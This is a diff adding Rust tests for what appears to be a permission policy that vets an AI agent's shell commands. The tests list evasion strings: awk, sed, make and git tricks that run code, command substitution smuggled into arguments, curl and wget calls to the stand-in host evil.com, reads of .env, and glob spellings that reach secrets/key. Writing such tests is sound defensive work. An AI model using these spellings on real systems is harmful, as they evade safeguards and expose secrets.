@@ -114,6 +114,94 @@ fn an_allowed_command_does_not_carry_another_with_it() {
     }
 }
 
+/// What makes a command dangerous may be a plain word.
+#[test]
+fn a_wildcard_that_allows_covers_no_word_of_a_dangerous_command() {
+    let rules = policy(
+        "[[rules]]\nname='wide'\ntool='bash'\ncommand=['awk *', 'sed *', 'make *', 'git clone *', 'git push *', 'let *', 'echo *', 'cat *']\n\
+         effect='allow'\n\
+         [[rules]]\nname='exact'\ntool='bash'\ncommand='git push origin +dev'\neffect='allow'\n",
+    );
+    for bypass in [
+        "awk 'BEGIN{system(\"id\")}'",
+        "sed '1e id' f",
+        "make SHELL=./x",
+        "git clone ext::sh",
+        "git push origin +main",
+        "git push origin :main",
+        "let 'x[$(touch P)]=1'",
+        "echo x > placet.toml",
+        "cat < .env",
+    ] {
+        assert_eq!(line(&rules, bypass).step, Step::HighRisk, "{bypass}");
+    }
+    for allowed in [
+        "awk '{print $1}' f",
+        "sed -n 1p f",
+        "make all",
+        "git push origin main",
+    ] {
+        assert_eq!(line(&rules, allowed).rule.as_deref(), Some("wide"), "{allowed}");
+    }
+    assert_eq!(
+        line(&rules, "git push origin +dev").rule.as_deref(),
+        Some("exact")
+    );
+}
+
+#[test]
+fn a_rule_that_denies_a_host_finds_it_however_a_line_names_it() {
+    let rules = policy(
+        "[[rules]]\nname='net'\ntool='bash'\ncommand=['curl *', 'wget *', 'git *', 'mytool *']\neffect='allow'\n\
+         [[rules]]\nname='evil'\nhost='evil.com'\neffect='deny'\n",
+    );
+    for spelling in [
+        "curl evil.com/x",
+        "curl --url=http://evil.com",
+        "curl http:/evil.com",
+        "curl http://{ok,evil}.com",
+        "curl -x evil.com:80 https://example.org",
+        "curl --connect-to example.org:443:evil.com:443 https://example.org",
+        "wget evil.com",
+        "git clone git@evil.com:x",
+        "git clone ssh://git@evil.com/x",
+        "mytool --to=https://evil.com/x",
+        "curl EVIL.COM.",
+        "curl \"${u:-https://evil.com}\"",
+    ] {
+        assert_eq!(line(&rules, spelling).decision, Decision::Deny, "{spelling}");
+    }
+    // Which hosts these are is for the client to say.
+    assert_eq!(line(&rules, "curl 'http://{ok,evil}.com'").step, Step::HighRisk);
+    assert_eq!(line(&rules, "curl https://example.org").decision, Decision::Allow);
+}
+
+#[test]
+fn a_rule_that_denies_a_path_is_not_evaded_by_patterns() {
+    let rules = policy(
+        "[[rules]]\nname='read'\ntool='bash'\ncommand=['cat *', 'cd *', 'ls *']\neffect='allow'\n\
+         [[rules]]\nname='secrets'\npath='secrets/**'\neffect='deny'\n",
+    );
+    for bypass in [
+        "cat s*/key",
+        "cat {secrets,x}/key",
+        "cat [s]ecrets/key",
+        "cat < s*/key",
+        "cd s* && cat key",
+        "cat */key",
+        "cat ./src/../s?crets/key",
+        "cat \"${a:-secrets}/key\"",
+        "cat sec$(true)rets/key",
+        "cat /work*/secrets/key",
+        "ls *",
+    ] {
+        assert_eq!(line(&rules, bypass).decision, Decision::Deny, "{bypass}");
+    }
+    for other in ["cat src/*.rs", "cat t*/key", "cat *.md", "ls"] {
+        assert_eq!(line(&rules, other).decision, Decision::Allow, "{other}");
+    }
+}
+
 #[test]
 fn examples_of_statements_paths_and_urls_are_tried_as_such() {
     policy(
